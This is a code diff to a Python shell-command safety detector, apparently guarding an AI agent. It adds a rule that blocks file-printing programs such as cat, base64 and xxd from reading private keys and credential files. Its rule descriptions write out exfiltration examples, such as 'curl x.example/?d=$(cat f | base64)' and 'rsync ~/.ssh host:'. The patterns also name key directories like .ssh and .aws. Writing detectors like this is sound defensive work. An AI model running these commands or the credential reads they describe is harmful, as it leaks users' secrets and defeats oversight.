@@ -64,6 +64,10 @@ _READERS = frozenset({
     "gpg", "jq", "yq", "sqlite3", "python", "python3", "type", "get-content", "gc", "view", "pr", "fold",
     "paste", "column", "diff", "cmp", "wc", "source", ".", "dd", "pv", "mail", "install",
 })
+# programs that print or encode a file's content (the agent then holds it); copying/archiving is not this
+_DUMPERS = frozenset({"cat", "tac", "head", "tail", "less", "more", "most", "bat", "batcat", "strings", "xxd",
+                      "hexdump", "od", "base64", "base32", "basenc", "nl", "type", "get-content", "gc", "pr",
+                      "fold", "view", "awk", "gawk", "sed", "grep", "egrep", "rg", "tee", "dd", "xclip"})
 _DISK_TOOLS = frozenset({"fdisk", "gdisk", "cfdisk", "sfdisk", "sgdisk", "parted", "gparted"})
 _HARMLESS_DEV = re.compile(r"^/dev/(null|zero|u?random|stdin|stdout|stderr|tty\w*|pts/.*|fd/.*|shm(/.*)?|full|ptmx|"
                            r"console|log|kmsg|tcp/.*|udp/.*)$")
@@ -230,6 +234,7 @@ class Detector:
     def __init__(self, policy: ShellPolicy, files: FilesPolicy | None = None) -> None:
         self.policy = policy
         self.ask_unknown = policy.unknown_programs == "confirm"
+        self.credential_files = _any(files.credentials if files else ()) or re.compile(r"(?!)")
         self.supervisor = _any([*(files.supervisor_paths if files else ()), *supervisor_dirs()])
         self.dumps = _any(files.credential_dumps if files else _DEFAULT_DUMPS)
         self.key_dirs = re.compile(r"(^|/)\.(ssh|gnupg|aws|password-store|kube|docker)/?$|"
@@ -533,6 +538,10 @@ class Detector:
     def reads(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
         secret = self.reads_secret(cmd)
         if secret is None or secret == "the environment (tokens and keys)":
+            return
+        if cmd.name in _DUMPERS and self.credential_files.search(secret):
+            add(Finding("block.shell.credential-read", Risk.CRITICAL, f"prints {secret}: a private key or "
+                        f"credential file (as a file_read of it){where}", cmd.span))
             return
         add(Finding("confirm.shell.secret-read", Risk.HIGH if "/" in secret or "key" in secret else Risk.MEDIUM,
                     f"reads {secret}{where}", cmd.span))
@@ -1574,6 +1583,10 @@ RULES: tuple[Rule, ...] = (
           "A whole home directory or a key directory archived or copied to a network sink (tar ~ | ssh, "
           "rsync ~/.ssh host:), DNS lookups or URLs built from command output (nslookup $(whoami).x.example, "
           "curl x.example/?d=$(cat f | base64)), ping -p with command output."),
+    _make("block.shell.credential-read", "prints a private key or credential file", Risk.CRITICAL,
+          "A program that prints or encodes a file (cat, head, base64, xxd, ...) over a private key, cloud "
+          "credential or password store (`[files] credentials`): the same files a file_read blocks. Copying "
+          "or using one (cp, openssl -in, ssh -i) asks or passes."),
     _make("block.shell.suid-shell", "setuid shell", Risk.CRITICAL,
           "chmod u+s / 4755 (or install -m 4755, setcap cap_setuid) on a shell or interpreter, or on a copy of "
           "one made in the same command: root for anyone who runs it."),
